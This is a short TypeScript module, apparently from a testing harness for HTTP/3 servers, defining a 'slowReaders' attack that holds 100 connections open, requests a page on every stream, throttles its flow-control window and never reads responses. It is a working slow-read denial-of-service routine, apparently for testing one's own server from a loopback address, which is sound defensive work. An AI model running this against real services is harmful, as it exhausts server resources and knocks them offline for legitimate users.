import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { get } from "../../clients/http3-frames.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

/** A source of its own, as other attacks may hold the share of theirs. */
const from = "127.0.0.23";

const connections = 100;

/** Connections that request a page on every stream they may open, read no response and stay alive. */
export const slowReaders: Attack = {
  name: "readers that do not read",
  unit: "requests",
  async run(target, signal, tally) {
    await Promise.all(
      Array.from({ length: connections }, async () => {
        while (!signal.aborted) {
          const client = await RawHttp3.open(target, {
            windowBytes: 2000,
            connectionWindowBytes: 1e6,
            reads: false,
            from,
          });
          for (; client.hasRoom && !signal.aborted; tally())
            client.request(get("/v1/openapi.json", target), true);
          while (!client.isClosed && !signal.aborted) {
            client.ping();
            await sleep(1000, undefined, { signal }).catch(() => undefined);
          }
          client.close();
        }
      }),
    );
  },
};
